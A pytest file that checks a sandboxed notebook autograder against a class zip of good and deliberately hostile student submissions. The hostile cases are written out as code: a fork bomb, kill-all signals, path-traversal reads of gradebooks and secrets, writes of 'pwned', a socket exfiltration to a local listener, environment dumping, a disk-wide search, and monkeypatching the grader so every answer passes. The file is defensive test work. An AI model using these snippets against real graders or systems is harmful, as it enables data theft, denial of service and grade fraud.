"""``backprop-ninja grade`` on a class that mixes good students with hostile and broken ones.

The whole class arrives as one LMS zip (Canvas-named flat files and a folder per student) and
is graded in ONE run of the command, sandboxed, with 2 workers and short time limits, with fake
credentials in its environment and, where the sandbox's allow-list leaves them out, the download, its
unzipped folder and another course planted in /srv and /opt. Then: the good students' grades are exactly
those that stock ``nbgrader autograde`` gives them alone and unsandboxed, every bad one ends with its named
outcome, and nothing left the sandbox or got into it. Only Exercise 1.
"""

import copy
import csv
import json
import os
import shutil
import socket
import sys
import tempfile
import threading
import zipfile
from pathlib import Path

import nbformat
import pytest
from support.course import ASSIGNMENT, NEWCOMER_ENV, REPO, Course, run_grade, temporary_course
from support.edits import duplicated, edited, fake_grade_cell, stripped, without

from autograder.authoring.submissions import grade_id, solved
from autograder.data import EMBEDDED_NAMES
from autograder.engine.backward_rules import STEPS
from autograder.grading.results.ungraded_pages import is_ours

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")

NB = "ex1_atomic_backward"
ALL = [s.name for s in STEPS]
AFTER_H = ALL[ALL.index("h") :]  # the steps graded after a cell placed after answer_dh
# generous (an honest notebook takes 1-3 s alone), for this 2-core machine is shared with other test runs; the notebook
# limit is what bad_uninterruptible holds a worker for
NOTEBOOK_TIMEOUT, CELL_TIMEOUT = 40, 15  # an honest Exercise 1 takes 1-4 s; the uninterruptible student waits all 40
PLANTED = "backprop-ninja-planted"  # in the names of what the test leaves where a kernel must not see it
FAKE_SECRETS = {  # in the environment of the graded run: JupyterHub's token, and credentials of every kind
    "JPY_API_TOKEN": "FAKE-HUB-TOKEN-1234",
    "JUPYTERHUB_API_TOKEN": "FAKE-HUB-TOKEN-5678",
    "GITHUB_TOKEN": "FAKE-GITHUB-TOKEN-9",
    "AWS_SECRET_ACCESS_KEY": "FAKE-AWS-SECRET-7",
    "PGPASSWORD": "FAKE-DB-PASSWORD-3",
    "OPENAI_API_KEY": "FAKE-API-KEY-5",
}

CONTROLS = {  # student (Canvas's name and user id) -> answer cells changed; also graded alone
    "goodperfect_1234": {},
    "goodsign_1235": {"answer_dprobs": "dprobs = -(1.0 / probs) * dlogprobs"},
    "goodtransposed_1236": {"answer_dW2": "dW2 = dlogits.T @ h"},
}


class Listener:
    """A TCP server on 127.0.0.1, outside the sandbox, that records every connection."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.connections.append(conn.recv(100))
            conn.close()


def cells_after(release, source, after, code, changes=None):
    return solved(release, source, changes, extra_cells=[(after, code)])


def as_colab(nb) -> bytes:
    """What Colab's File > Download gives: nbformat 4.0, its own metadata and cell ids, no top-level ids."""
    cells = []
    for k, cell in enumerate(nb.cells):
        c = {
            "cell_type": cell.cell_type,
            "metadata": {"id": f"c0L4b{k:04d}x", **copy.deepcopy(cell.metadata)},
            "source": cell.source.splitlines(keepends=True),
        }
        if cell.cell_type == "code":
            c.update(execution_count=None, outputs=[])
        cells.append(c)
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 0,
            "cells": cells,
            "metadata": {
                "colab": {"provenance": [], "name": f"Copy of {NB}.ipynb"},
                "accelerator": "GPU",
                "kernelspec": {"name": "python3", "display_name": "Python 3"},
                "language_info": {"name": "python"},
            },
        },
        indent=2,
    ).encode()


def hostile_class(course: Course, listener: Listener) -> dict:
    """student -> (zip entry name, bytes, expected lost steps or None for no grade, expected problem kinds)."""
    release, source = course.notebook("release", NB), course.notebook("source", NB)
    root = course.root
    good = solved(release, source)
    secrets = [
        str(root / "gradebook.db"),
        "../../gradebook.db",
        "../../../gradebook.db",
        str(root / "source" / ASSIGNMENT / f"{NB}.ipynb"),
        f"../../../source/{ASSIGNMENT}/{NB}.ipynb",
        str(root / "submitted" / "goodperfect_1234" / ASSIGNMENT / f"{NB}.ipynb"),
        str(root / "autograded" / "goodperfect_1234" / ASSIGNMENT / f"{NB}.ipynb"),
    ]
    targets = [
        str(root / "hack.txt"),
        "../../../hack.txt",
        str(root / "gradebook.db"),
        f"../../goodperfect_1234/{ASSIGNMENT}/{NB}.ipynb",
        f"../../goodperfect_1234/{ASSIGNMENT}/hack.txt",
        str(root / "submitted" / "goodperfect_1234" / ASSIGNMENT / f"{NB}.ipynb"),
        str(root / "autograded" / "goodperfect_1234" / ASSIGNMENT / f"{NB}.ipynb"),
    ]
    probe = (
        "import os\nfor path in {paths!r}:\n    try:\n        {action}\n"
        "        print('DONE', path, os.path.realpath(path))\n"
        "    except Exception as e:\n        print('BLOCKED', path, type(e).__name__)\n"
    )
    patch = (
        "import torch, torch.testing\n"
        "import autograder.engine.judge, autograder.engine.tolerance, autograder.in_kernel\n"
        "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "autograder.engine.judge.judge_gradient = lambda *a, **k: None\n"
        "for name in dir(autograder.engine.tolerance):\n"
        "    if callable(getattr(autograder.engine.tolerance, name)):\n"
        "        setattr(autograder.engine.tolerance, name, lambda *a, **k: True)\n"
    )
    w = lambda nb: nbformat.writes(nb).encode()
    after = "answer_dh"
    c = {
        "bad_syntax_error": (
            w(solved(release, source, {"answer_dC": "dC = torch.zeros_like(C\ndC[Xb] += demb"})),
            ["C"],
            set(),
        ),
        "bad_exception_everywhere": (
            w(
                solved(
                    release,
                    source,
                    {
                        grade_id(x): "raise RuntimeError('no')"
                        for x in release.cells
                        if grade_id(x).startswith("answer_")
                    },
                )
            ),
            ALL,
            set(),
        ),
        "bad_infinite_loop": (
            w(cells_after(release, source, after, "while True:\n    pass")),
            [],
            {(NB, "cell_timeout")},
        ),
        "bad_uninterruptible": (
            w(
                cells_after(
                    release,
                    source,
                    after,
                    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
                )
            ),
            AFTER_H,
            {(NB, "notebook_time_limit")},
        ),
        "bad_50_gb": (
            w(cells_after(release, source, after, "import torch\nhog = torch.empty(50 * 2**30, dtype=torch.uint8)")),
            [],
            {(NB, "memory_limit")},
        ),
        "bad_fork_bomb": (
            w(
                cells_after(
                    release,
                    source,
                    after,
                    # (forks: a kernel can start no program)
                    "import os, time\nfor _ in range(5000):\n    if os.fork() == 0:\n"
                    "        time.sleep(600)\n        os._exit(0)",
                )
            ),
            "any",
            {(NB, "process_limit")},
        ),
        "bad_os_exit": (
            w(solved(release, source, {"answer_dh": "import os\nos._exit(1)"})),
            AFTER_H,
            {(NB, "kernel_died")},
        ),
        "bad_sys_exit": (w(cells_after(release, source, after, "import sys\nsys.exit()")), [], set()),
        # everything this uid may signal: inside the sandbox, that is nobody else's kernel or grader
        "bad_kill_everything": (
            w(cells_after(release, source, after, "import os, signal\nos.kill(-1, signal.SIGKILL)")),
            "any",
            set(),
        ),
        "bad_prints_100_mb": (
            w(cells_after(release, source, after, "print('x' * 100_000_000)")),
            [],
            {(NB, "message_limit")},  # one message over max_message_bytes (64 MiB): dropped as it arrives
        ),
        "bad_prints_in_many_messages": (  # each message small, the cell's output over its 4 MiB: cut where it passes
            w(cells_after(release, source, after, "for _ in range(100):\n    print('x' * 1_000_000, flush=True)")),
            [],
            {(NB, "output_limit")},
        ),
        "bad_reads_secrets": (
            w(
                cells_after(
                    release, source, after, probe.format(paths=secrets, action="print(open(path, 'rb').read(300))")
                )
            ),
            [],
            set(),
        ),
        "bad_writes_elsewhere": (
            w(
                cells_after(
                    release, source, after, probe.format(paths=targets, action="open(path, 'a').write('pwned')")
                )
            ),
            [],
            set(),
        ),
        "bad_network": (
            w(
                cells_after(
                    release,
                    source,
                    after,
                    "import socket\ntry:\n"
                    f"    s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=5)\n"
                    "    s.sendall(b'stolen answers'); s.close(); print('CONNECTED')\n"
                    "except OSError as e:\n    print('BLOCKED', type(e).__name__)",
                )
            ),
            [],
            set(),
        ),
        "bad_monkeypatch": (
            w(
                solved(
                    release, source, {"answer_dW2": "dW2 = dlogits.T @ h"}, extra_cells=[("self_check_helpers", patch)]
                )
            ),
            ALL,  # setattr and getattr of computed names: code the grader cannot read, every answer from its cell on
            set(),
        ),
        "bad_deleted_test": (w(without(good, "test_dprobs")), [], {(NB, "deleted_cell")}),
        "bad_deleted_all_tests": (  # every graded cell deleted, every answer there: put back and graded
            w(without(good, *(grade_id(c) for c in good.cells if grade_id(c).startswith("test_")))),
            [],
            {(NB, "deleted_cell")},
        ),
        "bad_duplicated_test": (w(duplicated(good, "test_dprobs")), [], {(NB, "duplicated_cell")}),
        # the batch size changed in a locked cell (which JupyterLab does not let them edit): the course's is run
        "bad_edits_locked_cell": (
            w(edited(good, "setup_batch", "batch_size = 8  # faster")),
            [],
            {(NB, "locked_cell_changed")},
        ),
        "bad_stripped": (w(stripped(good)), [], {(NB, "metadata_stripped")}),
        "bad_not_json": (b"<html>Sorry, this file could not be downloaded</html>", None, {(NB, "not_a_notebook")}),
        "bad_empty": (b"", None, {(NB, "not_a_notebook")}),
        "bad_colab": (as_colab(good), [], set()),
        "bad_fake_grade_cell": (w(fake_grade_cell(good)), [], {(NB, "unknown_cell")}),
        # it looks for notebooks, gradebooks, names.txt and what the test planted, over the whole disk
        "bad_searches_the_disk": (w(cells_after(release, source, after, SEARCH)), [], set()),
        "bad_prints_environment": (
            w(
                cells_after(
                    release, source, after, "import os\nfor k, v in sorted(os.environ.items()):\n    print(k, '=', v)"
                )
            ),
            [],
            set(),
        ),
        # the hidden tests import a module that reports nothing: nothing crashes, no answer reaches the grader
        "bad_replaces_the_grader": (
            w(solved(release, source, extra_cells=[("self_check_helpers", REPLACE_GRADER)])),
            ALL,
            {(NB, "no_answer_reported")},
        ),
    }
    return c


# (the patterns as one expression: four fnmatch calls a name took 6 s over /usr's 125,000 files, and over the cell
# limit on a busy machine; one match 0.5 s)
SEARCH = f"""import fnmatch, os, re
wanted = ("*.ipynb", "gradebook.db", "names.txt", "*{PLANTED}*")
match = re.compile("|".join(fnmatch.translate(pattern) for pattern in wanted)).match
walked = 0
for folder, dirs, files in os.walk("/"):
    if folder in ("/proc", "/dev"):
        dirs[:] = []
        continue
    walked += len(files)
    for name in dirs + files:
        if match(name):
            print("FOUND", os.path.join(folder, name))
print("WALKED", walked)
print("CWD", os.getcwd())
"""
REPLACE_GRADER = """import sys, types
fake = types.ModuleType("autograder.in_kernel")
fake.report = lambda *args, **kwargs: None
sys.modules["autograder.in_kernel"] = fake
"""


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.server.close()


@pytest.fixture(scope="module")
def planted():
    """Folders in /srv and /opt (visible to every kernel before the allow-list), removed afterwards: the LMS
    download with its unzipped copy, and another course with its gradebook and source notebooks."""
    srv = Path(tempfile.mkdtemp(prefix=f"{PLANTED}-lms-", dir="/srv"))
    opt = Path(tempfile.mkdtemp(prefix=f"{PLANTED}-course-", dir="/opt"))
    try:
        for folder in (srv, opt):
            folder.chmod(0o755)
        other = opt / "other-course"
        shutil.copytree(REPO / "source", other / "source")
        (other / "gradebook.db").write_bytes(b"SQLite format 3\0 other course")
        yield srv, opt
    finally:
        shutil.rmtree(srv, ignore_errors=True)
        shutil.rmtree(opt, ignore_errors=True)


@pytest.fixture(scope="module")
def ex1_course():
    """A course with Exercise 1 only (the other notebooks may be in progress)."""
    with temporary_course("class-grading-", only=NB) as course:
        yield course


def grade(course, *args, check=True, env=None):
    timeouts = ("--workers", "2", "--notebook-timeout", str(NOTEBOOK_TIMEOUT), "--cell-timeout", str(CELL_TIMEOUT))
    return run_grade(course.root, *timeouts, *args, check=check, env=env)


@pytest.fixture(scope="module")
def graded(ex1_course, listener, planted):
    course = ex1_course
    release, source = course.notebook("release", NB), course.notebook("source", NB)
    cases = hostile_class(course, listener)
    download = planted[0] / "download.zip"
    with zipfile.ZipFile(download, "w") as z:
        for student, changes in CONTROLS.items():  # Canvas: flat files named <name>_<user id>_<file id>_<notebook>
            name, user = student.rsplit("_", 1)
            z.writestr(f"{name}_LATE_{user}_5678_{NB}.ipynb", nbformat.writes(solved(release, source, changes)))
        z.writestr("goodperfect_1234_5678_notes.txt", "my notes")  # not a notebook: reported, not graded
        for student, (data, _, _) in cases.items():  # a folder per student
            name = f"Copy of {NB}.ipynb" if student == "bad_colab" else f"{NB}.ipynb"
            z.writestr(f"{student}/{name}", data)
        z.writestr(
            f"Ada Lovelace_1234_assignsubmission_file_/{NB}.ipynb",  # Moodle's folder names
            nbformat.writes(solved(release, source)),
        )
        # numbered duplicates: the newest is taken
        z.writestr(zipfile.ZipInfo(f"dup_student/{NB}.ipynb", (2026, 1, 1, 10, 0, 0)), nbformat.writes(release))
        z.writestr(
            zipfile.ZipInfo(f"dup_student/{NB} (1).ipynb", (2026, 1, 2, 10, 0, 0)),
            nbformat.writes(solved(release, source)),
        )
        homework = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('my homework')")])
        z.writestr("nothing_student/homework.ipynb", nbformat.writes(homework))  # matches no notebook, nor its cells
        z.writestr("README", "not a student")
    with zipfile.ZipFile(download) as z:  # instructors unzip it too
        z.extractall(planted[0] / "download")
    # bad_searches_the_disk walks what its sandbox shows, /usr the most of it: 10.8 s with the file system's caches
    # gone cold after the slow tier (over its 15 s cell limit in a CI run), 1.3 s warm
    for _ in os.walk("/usr"):
        pass
    # an instructor's own modules beside nbgrader_config.py, named as the standard library's: the grader's processes
    # run in the course root, and must not import them (each leaves a mark if it is imported)
    for name in SHADOWING_MODULES:
        (course.root / name).write_text("open(__file__ + '.imported', 'w').close()\n")
    result = grade(course, "--from", str(download), env={**NEWCOMER_ENV, **FAKE_SECRETS})
    return course, cases, result


SHADOWING_MODULES = ("random.py", "code.py", "json.py")


def test_an_instructors_modules_in_the_course_root_are_not_the_graders(graded):
    course, _, _ = graded
    assert [name for name in SHADOWING_MODULES if (course.root / f"{name}.imported").exists()] == []
    assert lost(rows(course)["goodperfect_1234"]) == []


def rows(course):
    with open(course.root / "grades.csv", newline="", encoding="utf-8-sig") as f:
        return {r["student"]: r for r in csv.DictReader(f)}


def problems(course):
    return json.loads((course.root / "problems.json").read_text())


def kinds(course, student):
    return {(p["notebook"], p["problem"]) for p in problems(course) if p["student"] == student}


def lost(row):
    maximum = {s.name: s.points for s in STEPS}
    return sorted(s for s in maximum if float(row[f"{NB}:test_d{s}"] or 0) != maximum[s])


def test_every_student_has_a_grade_or_a_named_problem(graded):
    course, cases, result = graded
    table = rows(course)
    students = {*CONTROLS, *(s for s in cases if s != "bad_colab"), "bad_colab", "dup_student", "nothing_student"}
    assert students <= set(table) | {p["student"] for p in problems(course)}
    for student, row in table.items():
        assert row["total"] != "" or kinds(course, student), student
    assert "problems" in result.stdout and "grades:" in result.stdout


@pytest.fixture(scope="module")
def alone(ex1_course, tmp_path_factory):
    """The control students graded alone, by stock ``nbgrader autograde`` without the sandbox, in a course of
    their own: the sandbox changes no honest student's grade."""
    with temporary_course("alone-", only=NB) as course:
        release, source = course.notebook("release", NB), course.notebook("source", NB)
        for student, changes in CONTROLS.items():
            course.submit(student, NB, solved(release, source, changes))
        course.nbgrader("autograde", ASSIGNMENT, "--GradingExecute.sandbox=False")
        yield {student: course.scores(student, NB) for student in CONTROLS}


def test_good_students_get_exactly_their_grades_alone(graded, alone):
    course = graded[0]
    for student in CONTROLS:
        scores = course.scores(student, NB)
        assert scores == alone[student], student
        row = rows(course)[student]
        assert float(row["total"]) == sum(scores.values())
        # Canvas named their files LATE: said (marked_late), without a penalty; their notes.txt: not a notebook
        assert {k for k in kinds(course, student) if k[1] != "unmatched_file"} == {(NB, "marked_late")}, student
    assert lost(rows(course)["goodperfect_1234"]) == []
    assert lost(rows(course)["goodsign_1235"]) == ["probs"]
    assert lost(rows(course)["goodtransposed_1236"]) == ["W2"]


@pytest.mark.parametrize(
    "student",
    [
        "bad_syntax_error",
        "bad_exception_everywhere",
        "bad_infinite_loop",
        "bad_uninterruptible",
        "bad_50_gb",
        "bad_fork_bomb",
        "bad_os_exit",
        "bad_sys_exit",
        "bad_kill_everything",
        "bad_prints_100_mb",
        "bad_reads_secrets",
        "bad_writes_elsewhere",
        "bad_network",
        "bad_monkeypatch",
        "bad_deleted_test",
        "bad_deleted_all_tests",
        "bad_duplicated_test",
        "bad_edits_locked_cell",
        "bad_stripped",
        "bad_not_json",
        "bad_empty",
        "bad_colab",
        "bad_fake_grade_cell",
        "bad_searches_the_disk",
        "bad_prints_environment",
        "bad_replaces_the_grader",
    ],
)
def test_each_bad_submission_gets_its_named_outcome(graded, student):
    course, cases, _ = graded
    _, expected_lost, expected_kinds = cases[student]
    row = rows(course)[student]
    assert expected_kinds <= kinds(course, student), (kinds(course, student), expected_kinds)
    if expected_lost is None:
        assert row["total"] == "" and row[NB] == ""
    elif expected_lost != "any":
        assert lost(row) == sorted(expected_lost), (lost(row), expected_lost)
        if not expected_kinds:
            assert not kinds(course, student), kinds(course, student)


def test_nothing_leaves_the_sandbox(graded, listener):
    course = graded[0]
    assert listener.connections == []
    text = lambda s: "\n".join(
        o.get("text", "")
        for c in nbformat.read(course.root / "autograded" / s / ASSIGNMENT / f"{NB}.ipynb", as_version=4).cells
        for o in c.get("outputs", [])
    )
    reads, writes, net = text("bad_reads_secrets"), text("bad_writes_elsewhere"), text("bad_network")

    def blocked(output: str) -> int:
        """Attempts blocked, or done where the sandbox's private /tmp holds the path (a relative path from a stage:
        ``sandbox/stage.py``), never the machine's /tmp."""
        done = [line.split()[-1] for line in output.splitlines() if line.startswith("DONE ")]
        private = [
            p for p in done if p.startswith("/tmp/") and not p.startswith(str(course.root)) and not Path(p).exists()
        ]
        assert private == done, output
        return output.count("BLOCKED") + len(private)

    assert blocked(reads) == 7 and "SQLite" not in reads and "HIDDEN" not in reads, reads
    assert blocked(writes) == 7, writes
    assert "BLOCKED" in net and "CONNECTED" not in net
    assert not (course.root / "hack.txt").exists()
    for path in course.root.rglob("*"):
        if path.is_file() and "bad_writes_elsewhere" not in path.parts and path.suffix != ".db":
            assert b"pwned" not in path.read_bytes(), path


def outputs(course, student) -> str:
    nb = nbformat.read(course.root / "autograded" / student / ASSIGNMENT / f"{NB}.ipynb", as_version=4)
    return "\n".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def test_a_search_of_the_whole_disk_finds_nothing_but_its_own_folder_and_python(graded, planted):
    course = graded[0]
    printed = outputs(course, "bad_searches_the_disk").splitlines()
    walked = int(next(line for line in printed if line.startswith("WALKED ")).split()[1])
    assert walked > 10_000  # it did search: the Python installation alone has that many files
    found = [line.split(" ", 1)[1] for line in printed if line.startswith("FOUND ")]
    # it works in its scratch, a copy of its own folder, which the sandbox shows read-only on its worker's stage
    # (sandbox/stage.py), as root or not
    assert next(line for line in printed if line.startswith("CWD ")) == "CWD /scratch"
    in_place = str(course.root / "autograded" / "bad_searches_the_disk" / ASSIGNMENT)
    staged = [p for p in found if p.startswith("/tmp/nbgrader-sandbox-") and p.endswith(f"/stage/student/{NB}.ipynb")]
    own = in_place if f"{in_place}/{NB}.ipynb" in found else staged[0].rsplit("/", 1)[0]
    assert own != in_place, own  # a grading worker shows each student on its parent's stage, whoever grades
    python = {q for p in (sys.prefix, sys.base_prefix) for q in (p, os.path.realpath(p))}  # nbgrader's examples
    assert f"/scratch/{NB}.ipynb" in found and str(EMBEDDED_NAMES) in found  # the data set is granted read-only
    for path in set(found) - {str(EMBEDDED_NAMES)}:
        assert path.startswith((own + "/", "/scratch/")) or any(path.startswith(p + "/") for p in python), path
    assert not [p for p in found if PLANTED in p]
    # and there was something to find: the download, unzipped, and the other course's notebooks and gradebook
    assert list(planted[0].rglob(f"*{NB}.ipynb")) and list(planted[1].rglob(f"{NB}.ipynb"))
    assert (planted[1] / "other-course" / "gradebook.db").is_file()


def test_no_credential_reaches_the_kernel_or_any_output(graded):
    course = graded[0]
    printed = outputs(course, "bad_prints_environment")
    assert "BACKPROP_NINJA_SEED =" in printed and "HOME = /tmp" in printed  # it did print its environment
    assert "JPY_" not in printed.replace("JPY_PARENT_PID", "") and "TOKEN" not in printed
    for path in course.root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert not [v for v in FAKE_SECRETS.values() if v.encode() in data], path


def test_a_replaced_grader_module_is_named_as_such(graded):
    course = graded[0]
    messages = course.messages("bad_replaces_the_grader", NB)
    assert set(messages) >= {f"test_d{s}" for s in ALL}  # every step's cell, and the notebook's other graded cells
    assert all("no answer reached the grader" in m for m in messages.values()), messages
    problem = next(p for p in problems(course) if p["student"] == "bad_replaces_the_grader")
    assert problem["problem"] == "no_answer_reported" and f"{len(messages)} graded cells" in problem["detail"]
    html = (course.root / "feedback" / "bad_replaces_the_grader" / ASSIGNMENT / f"{NB}.html").read_text()
    assert "no answer reached the grader" in html and "crashed" not in html


def test_lms_names_are_normalised_and_leftovers_reported(graded):
    course = graded[0]
    assert (course.root / "submitted" / "bad_colab" / ASSIGNMENT / f"{NB}.ipynb").is_file()
    assert lost(rows(course)["Ada_Lovelace_1234"]) == []
    assert lost(rows(course)["dup_student"]) == []  # the newer "(1)" copy, fully solved, was taken
    assert (None, "unmatched_file") in kinds(course, "goodperfect_1234")
    assert {(None, "unmatched_file"), (NB, "missing_notebook")} <= kinds(course, "nothing_student")
    assert (NB, "duplicate_file") in kinds(course, "dup_student")
    assert any(p["problem"] == "unmatched_file" and "README" in p["detail"] for p in problems(course))


def test_feedback_for_every_graded_student(graded):
    course = graded[0]
    for student, row in rows(course).items():
        html = course.root / "feedback" / student / ASSIGNMENT / f"{NB}.html"
        # nbgrader's page for a graded notebook; for one not graded, a page that says why (ungraded_pages)
        assert html.is_file() and is_ours(html) == (row[NB] == ""), student
        assert not (html.parent / "names.txt").exists()  # the feedback, not another copy of the data set
    broken = (course.root / "feedback" / "bad_not_json" / ASSIGNMENT / f"{NB}.html").read_text()
    assert (
        'data-problem="not_a_notebook"' in broken and "a web page (HTML), not a Jupyter" in broken and "<h4>" in broken
    )
    assert "<html>Sorry" not in broken and str(course.root) not in broken
    missing = course.root / "feedback" / "nothing_student" / ASSIGNMENT / f"{NB}.html"
    assert 'data-problem="missing_notebook"' in missing.read_text()
    html = (course.root / "feedback" / "bad_uninterruptible" / ASSIGNMENT / f"{NB}.html").read_text()
    # the notebook-wide limit or, on a loaded machine, the cell timeout that comes first: either way the
    # feedback names the time problem
    assert ("time limit" in html or "CellTimeoutError" in html) and "HIDDEN TESTS" not in html


def test_rerun_regrades_only_what_changed(graded):
    course = graded[0]
    before, before_problems = rows(course), problems(course)
    again = grade(course)
    assert " 0 (re)graded" in again.stdout, again.stdout
    assert rows(course) == before and problems(course) == before_problems
    release, source = course.notebook("release", NB), course.notebook("source", NB)
    course.submit("goodsign_1235", NB, solved(release, source))  # the student fixed the sign
    fixed = grade(course)
    assert " 1 (re)graded" in fixed.stdout, fixed.stdout
    after = rows(course)
    assert lost(after["goodsign_1235"]) == []
    assert {s: r for s, r in after.items() if s != "goodsign_1235"} == {
        s: r for s, r in before.items() if s != "goodsign_1235"
    }


def test_fails_closed_when_the_sandbox_cannot_start(ex1_course):
    course = ex1_course
    env = {**os.environ, "PATH": os.path.dirname(sys.executable)}  # no bwrap on the PATH
    result = grade(course, "--regrade-all", check=False, env=env)
    assert result.returncode != 0 and "bwrap" in result.stderr and "--unsandboxed" in result.stderr
    # the sandbox is there but cannot start a kernel (1 MB of address space): nobody is graded
    stamp = (course.root / "grades.csv").stat().st_mtime
    result = grade(course, "--regrade-all", "--memory-limit", "0.001", check=False)
    assert result.returncode != 0 and "sandbox could not start" in result.stderr, result.stderr[-2000:]
    assert (course.root / "grades.csv").stat().st_mtime == stamp


# ---------------------------------------------------------------- without kernels: names and repairs
